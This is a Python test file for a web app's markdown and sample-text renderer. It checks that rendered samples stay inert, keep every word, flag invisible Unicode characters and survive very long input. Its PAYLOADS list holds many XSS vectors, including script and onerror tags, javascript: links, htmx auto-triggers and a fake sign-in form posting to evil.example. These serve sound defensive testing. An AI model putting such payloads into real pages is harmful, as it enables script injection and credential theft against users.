"""Sample text on a page: nothing runs, nothing loads, no word is lost."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape

from app.web.markdown import TAGS
from app.web.material import is_formatted, material, plain, visible, words
from app.web.unseen import mark_unseen

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#x6a;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](https://evil.example/?q=1 'onmouseover=alert(1)')",
    "![pixel](https://evil.example/pixel.gif)",
    '![x"onerror="alert(1)](x)',
    "<https://evil.example/>",
    "https://evil.example/",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button hx-post=/sign-out hx-trigger=load>x</button>",
    "<div hx-get=/datasets hx-trigger=revealed></div>",
    "<hx-partial hx-target=body>gone</hx-partial>",
    "<template hx type=partial hx-target='#desk'>gone</template>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>over</p>",
    "<object data=x></object><embed src=x>",
    "</textarea><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "{{ 7 * 7 }} {% raw %}",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><img/src='x'onerror=alert(1)>\ncode\n```",
    "`<script>alert(1)</script>`",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <svg/onload=alert(1)>",
    "> <script>alert(1)</script>",
    "[x]: javascript:alert(1)\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div data-key=a id=desk class=btn>A</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u202e<script>\u202c",
]
ALLOWED = {f"<{tag}" for tag in TAGS} | {f"</{tag}" for tag in TAGS}
_OPENING = re.compile(r"</?[a-zA-Z!][^\s>/]*")
_MARK = re.compile(r'<span class="unseen">[^<]*</span>')
_ATTRIBUTE = re.compile(r"<[^>]*?\s([a-z-]+)=")


def harmless(rendered: str) -> bool:
    """Only our own tags, and of their attributes none that loads, links or runs."""
    names = set(_ATTRIBUTE.findall(rendered))
    return set(_OPENING.findall(rendered)) <= ALLOWED and names <= {
        "class", "tabindex", "role", "aria-label", "start", "value",
    }  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_sample_becomes_active(payload: str) -> None:
    rendered = material(payload)

    assert harmless(rendered)
    assert harmless(plain(payload))
    assert words(payload) in words(visible(mark_unseen(rendered))) or "\u202e" in payload


@given(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0")))
def test_any_text_is_harmless_and_whole(text: str) -> None:
    rendered = material(text)

    assert harmless(rendered)
    kept = words(visible(_MARK.sub("", rendered)))
    assert [letter for letter in words(text) if letter.isascii()] == [letter for letter in kept if letter.isascii()]


markdown_pieces = st.sampled_from([
    "# ", "* ", "- ", "1. ", "12) ", "> ", "```\n", "~~~ py\n", "**", "*", "_", "`", "[", "](", ")", "![", "<", ">", "|",
    "|-|-|\n", "\n", "\n\n", "    ", "a", "word ", "7", "mg", "&amp;", "\\", "---\n", "===\n", "[x]: y\n", "<b>",
    "http://a.b/c_d", "é", "ق", "\t", "  \n",
])  # fmt: skip


@given(st.lists(markdown_pieces, max_size=60).map("".join))
def test_markdown_never_hides_a_word_or_a_number(text: str) -> None:
    assert words(visible(material(text))) == words(text)


@pytest.mark.parametrize(("text", "rendered"), [
    ("One\nline", "<p>One<br>\nline</p>\n"),
    ("Wait **48** hours", "<p>Wait <strong>48</strong> hours</p>\n"),
    ("[leaflet](https://nhs.example 'Page 3')",
     '<p><span class="link">leaflet</span> <span class="address">https://nhs.example "Page 3"</span></p>\n'),
    ("![scan](x.png)", '<p><span class="image">scan <span class="address">x.png</span></span></p>\n'),
    ("# Dose\n### Children", "<h3>Dose</h3>\n<h5>Children</h5>\n"),
    ("## Approve when", "<h3>Approve when</h3>\n"),
    ("3. first\n9. second", '<ol start="3">\n<li value="3">first</li>\n<li value="9">second</li>\n</ol>\n'),
])  # fmt: skip
def test_markdown_is_read(text: str, rendered: str) -> None:
    assert material(text) == rendered


def test_row_that_is_wider_than_its_table_is_shown_as_it_stands() -> None:
    text = "|Drug|Dose|\n|-|-|\n|Metformin|500 mg|2000 mg|"

    assert material(text) == plain(text)
    assert "2000 mg" in material(text)


def test_code_can_be_scrolled_by_keyboard() -> None:
    assert '<pre tabindex="0"><code>=IF(C2&lt;30)\n</code></pre>' in material("```excel\n=IF(C2<30)\n```")


def test_plain_text_keeps_every_space() -> None:
    text = "  a\t b\n\n\n  c  <&>"

    assert plain(text) == f'<div class="plain">{escape(text)}</div>'


@pytest.mark.parametrize(("text", "mark"), [
    ("user\u202egpj.exe", "right-to-left override"),
    ("a\u200bb", "zero width space"),
    ("a\u2066b\u2069", "left-to-right isolate"),
    ("\ufeffStart", "zero width no-break space"),
    ("hidden\U000e0041\U000e0042", "2 unseen characters"),
    ("\u200b\u200b\u200b", "3 × zero width space"),
    ("pass\u200dword", "zero width joiner"),
    ("bell\x07", "character 0007"),
])  # fmt: skip
def test_unseen_characters_are_marked(text: str, mark: str) -> None:
    assert f'<span class="unseen">{mark}</span>' in material(text)
    assert f'<span class="unseen">{mark}</span>' in plain(text)


@pytest.mark.parametrize("text", ["می\u200cخواهم", "क्\u200dष", "👩\u200d⚕️", "Tab\tand\nline"])
def test_characters_that_a_script_needs_are_left_alone(text: str) -> None:
    assert "unseen" not in material(text)


@pytest.mark.parametrize("text", [
    "a" * 1_000_000, "\u200b\u200c" * 500_000, "[" * 50_000, "![" * 2_000, "*a_ " * 2_000, "|a" * 25_000,
    "> " * 25_000 + "deep", "a\u200b" * 500_000, "- " * 25_000,
])  # fmt: skip
def test_hostile_length_is_shown_in_time(text: str) -> None:
    started = time.perf_counter()
    rendered = material(text)

    assert time.perf_counter() - started < 5
    assert len(rendered) < 10 * len(text) + 100_000


@pytest.mark.parametrize(("text", "formatted"), [
    ("Plain.\nProse.\n\nMore.", False), ("A **bold** word", True), ("- a list", True), ("1 < 2", False),
    ("x" * 60_000, False),
])  # fmt: skip
def test_plain_view_is_offered_where_it_differs(text: str, formatted: bool) -> None:
    assert is_formatted(material(text)) is formatted
